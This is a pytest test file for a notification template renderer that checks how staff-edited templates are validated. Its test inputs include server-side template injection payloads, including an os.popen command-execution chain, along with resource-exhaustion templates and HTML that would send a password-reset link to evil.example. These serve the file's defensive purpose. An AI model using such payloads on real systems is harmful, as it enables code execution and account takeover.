import pytest
from notifications.domain.kinds import Kind
from notifications.sending.checking import mistake_in, variables_of
from notifications.sending.rendering import Renderer, parts_of, shipped_source
from shared.clock import BUSINESS_TIMEZONE
from shared.sealing import Sealer
from shared.settings import DEVELOPMENT_SEALING_KEY

RENDERER = Renderer("https://totetaxi.example", Sealer(DEVELOPMENT_SEALING_KEY), BUSINESS_TIMEZONE)


def reason(source: str, part: str = "text", kind: Kind = Kind.BOOKING_RECEIVED) -> str:
    return str(mistake_in(RENDERER, kind, part, source) or "")


@pytest.mark.parametrize("kind", list(Kind))
def test_staff_can_start_from_the_wording_that_messages_came_with(kind: Kind) -> None:
    for part in parts_of(kind):
        assert mistake_in(RENDERER, kind, part, shipped_source(kind, part)) is None


def test_what_may_be_used_is_told() -> None:
    variables = variables_of(RENDERER, Kind.PAYMENT_RECEIVED)
    assert "number" in variables["booking"]
    assert variables["facts"] == ["paid_cents", "receipt"]
    assert {"booking_link", "first_name", "site_url"} <= set(variables)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("Hello\n{{ booking.number", "Line 2: "),
        ("{% if booking.number %}x", "Line 1: "),
        ("a\nb\n{{ nobody }}", "Line 3: There is nothing named “nobody” here."),
        ("{{ booking.secret }}", "Line 1: There is nothing named “booking.secret” here."),
        ("{{ facts.paid_cents }}", "Line 1: There is nothing named “facts.paid_cents” here."),
        ("{{ booking.total | shell }}", "Line 1: "),
        ("{{ '' }} ", "Nothing comes out of it."),
        ("{{ " + "not " * 250 + "first_name }}", "Line 1: It is nested too deeply."),
        ("x" * 20_001, "It must not be longer than 20,000 characters."),
    ],
)
def test_mistakes_are_named_with_their_line(source: str, expected: str) -> None:
    assert reason(source).startswith(expected)


@pytest.mark.parametrize(
    "source",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ booking.__class__ }}",
        "{{ booking['__class__'] }}",
        "{{ booking.number.__class__.__base__.__subclasses__() }}",
        "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__ }}",
        "{{ range(10) }}",
        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}x",
        "{% for a in booking.lines %}{% for b in booking.lines %}x{% endfor %}{% endfor %}",
        "{% for a in booking.lines recursive %}{{ loop(booking.lines) }}{% endfor %}",
        "{% set x = 'a' %}{{ x }}",
        "{{ 'a' * 999999999 }}",
        "{{ 9 ** 999999 }}",
        "{{ '%999999999d' % 1 }}",
        "{{ 'a'.join(booking.pickup) }}",
        "{{ 'aa' | replace('a', 'aaaa') | replace('a', 'aaaa') }}",
        "{{ 'a' | replace('a', booking.number) }}",
        "{{ booking.lines | map(attribute='__class__') | list }}",
        "{{ booking | attr('__class__') }}",
        "{% macro x() %}{{ x() }}{% endmacro %}{{ x() }}",
        "{% include 'base.txt' %}",
        "{% import 'parts.txt' as p %}x",
        "{% extends 'payment_received/body.txt' %}",
        "{% extends booking.number %}",
        "{% from '../../settings.py' import x %}x",
        "{% from 'parts.txt' import __file__ %}x",
    ],
)
def test_a_template_reaches_nothing_and_runs_for_no_time(source: str) -> None:
    assert reason(source) != ""


def test_an_sms_and_a_subject_stand_alone() -> None:
    assert "No other template" in reason('{% extends "base.txt" %}', "sms")
    assert "No other template" in reason('{% extends "base.txt" %}', "subject")


def test_html_that_was_typed_by_customers_stays_text_in_new_wordings() -> None:
    template = RENDERER.from_source("html", "<b>{{ booking.number }}</b>")
    assert template.render(booking={"number": "<i>"}) == "<b>&lt;i&gt;</b>"


@pytest.mark.parametrize("source", ["Reset {{ link }}", "{{ 'x' ~ link }}", "{% if link %}x{% endif %}"])
def test_a_subject_shows_no_link(source: str) -> None:
    assert "no links" in reason(source, "subject", Kind.PASSWORD_RESET)


@pytest.mark.parametrize(
    "source",
    [
        '<img src="https://evil.example/?{{ link }}">',
        '<img src="{{ link }}">',
        '<a href="https://evil.example/?{{ link }}">x</a>',
        "<a href={{ link }}>x</a>",
        '<a href="{{ link }}" ping="https://evil.example/">x</a>',
        '<a href="https://evil.example/" title="{{ link }}">x</a>',
        '<a href="{{ link | upper }}">x</a>',
        """<img src='https://evil.example/?<a href="{{ link }}">x</a>'>""",
        """<img src='https://evil.example/?{{ button("x", link) }}'>""",
        """{% if first_name %}<img src='https://evil.example/?{% endif %}{{ button("x", link) }}'>""",
        """<img src="https://evil.example/?{% if first_name %}{{ button("x", link) }}{% endif %}">""",
        """<style>@import 'https://evil.example/?{{ button("x", link) }}'</style>""",
        """<!-- {{ button("x", link) }}""",
        """{{ button(link, "https://evil.example/") }}""",
        """{{ button("x", "https://evil.example/?" ~ link) }}""",
        """{% call paragraph() %}{{ link }}{% endcall %}""",
        "{{ heading(link) }}",
        "{{ link }}",
    ],
)
def test_in_html_a_link_is_only_the_address_that_a_click_leads_to(source: str) -> None:
    imports = '{% from "parts.html" import button, heading, paragraph %}'
    mistake = mistake_in(RENDERER, Kind.PASSWORD_RESET, "html", imports + source)
    assert mistake is not None
    assert "link" in mistake.reason


def test_links_in_buttons_and_anchors_are_as_before() -> None:
    source = """{% extends "base.html" %}{% from "parts.html" import button %}{% block content %}
    <p style='margin:0'>Hello {{ first_name }}</p>{% if link %}<a class="x" href="{{ link }}" style="color:#111">x</a>
    {% endif %}<img src="https://totetaxi.example/logo.png" alt="{{ first_name }}">{{ button("Go", link) }}
    {% endblock %}"""
    assert reason(source, "html", Kind.PASSWORD_RESET) == ""


@pytest.mark.parametrize(
    "source",
    [
        "{{ " + "(" * 150 + "1" + ")" * 150 + " }}",
        "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
        "{% if first_name %}" * 120 + "x" + "{% endif %}" * 120,
        "{{ 1e400 | money }}",
        "{% if 1e400 %}x{% endif %}",
    ],
)
def test_what_nests_too_deeply_or_counts_too_high_is_a_mistake(source: str) -> None:
    assert reason(source).removeprefix("Line 1: ") in ("It is nested too deeply.", "There is no such number.")
